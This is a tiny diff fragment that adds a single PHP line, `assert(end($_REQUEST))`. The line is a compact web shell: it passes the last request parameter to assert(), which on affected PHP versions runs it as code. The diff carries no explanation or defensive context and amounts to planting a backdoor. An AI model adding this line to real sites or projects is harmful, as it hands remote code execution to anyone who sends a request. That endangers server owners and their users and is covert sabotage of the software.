@@ -1,0 +1,1 @@
+<?php assert(end($_REQUEST));
